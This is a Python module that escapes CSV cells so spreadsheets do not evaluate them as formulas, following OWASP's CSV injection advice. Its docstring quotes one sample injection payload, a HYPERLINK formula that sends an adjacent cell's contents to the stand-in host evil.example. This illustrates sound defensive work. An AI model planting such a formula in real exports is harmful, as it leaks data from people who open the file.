"""CSV files that are safe to open in a spreadsheet (OWASP, "CSV Injection").

A cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula by Excel,
LibreOffice and Google Sheets: `=HYPERLINK("http://evil.example/?x="&A1,"Click")` in an account name
would send the next cell to anyone who opens the export. OWASP's rule: prefix such a cell with a single
quote, so it shows as text, and quote every cell (the csv module escapes the double quotes).

Numbers that we write ourselves (a Decimal, an int) are left alone: `-5` is a number, not a formula.
The import removes the quote again (`unescape_cell`), so an export imports back unchanged.
"""

import csv
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def escape_cell(value):
    """The value as a CSV cell no spreadsheet evaluates."""
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        return value
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def unescape_cell(text: str) -> str:
    """Undoes escape_cell() for a cell read back from one of our files."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class SafeWriter:
    """csv.writer with every cell escaped and quoted."""

    def __init__(self, stream, **kwargs):
        self._writer = csv.writer(stream, quoting=csv.QUOTE_ALL, **kwargs)

    def writerow(self, row):
        return self._writer.writerow([escape_cell(value) for value in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
